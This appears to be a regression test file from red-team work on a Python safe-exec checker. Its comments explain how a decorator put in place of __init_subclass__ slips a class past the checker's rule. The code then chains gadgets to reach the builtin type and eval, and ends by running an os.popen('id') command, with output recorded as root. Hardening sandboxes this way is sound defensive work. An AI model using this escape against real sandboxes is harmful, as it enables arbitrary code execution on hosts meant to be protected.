# expect: reject unbound
# line: 33
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family C: what a class body binds under a name through which the interpreter hands over a class (@classmethod, __init_subclass__, __set_name__, __get__) is not the def the rule judges: a decorator's result or a class statement (the red team's program, ok_08)
# Mechanism: __init_subclass__ is an implicit classmethod of whatever the class body binds under 
# that name. received_libclass judges the def's own first parameter, but a program decorator 
# replaced the def by inner(k, **kw): when class Q(Base, collections.Counter) is made, 
# type.__init_subclass__ machinery calls inner(Q), and the program keeps Q, a class deriving from a 
# library class with Python methods. box[0].copy(P) = Counter.copy(P) = the builtin type. No dunder 
# name is given to a builtin at run time.
# Goal reached: the builtin type by value, then eval (11b end gadget): runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

box = []

def deco(f):
    def inner(k, **kw):
        box.append(k)
    return inner

class Base:
    @deco
    def __init_subclass__(cls, **kw):
        return None

class Q(Base, collections.Counter):
    pass

T = box[0].copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
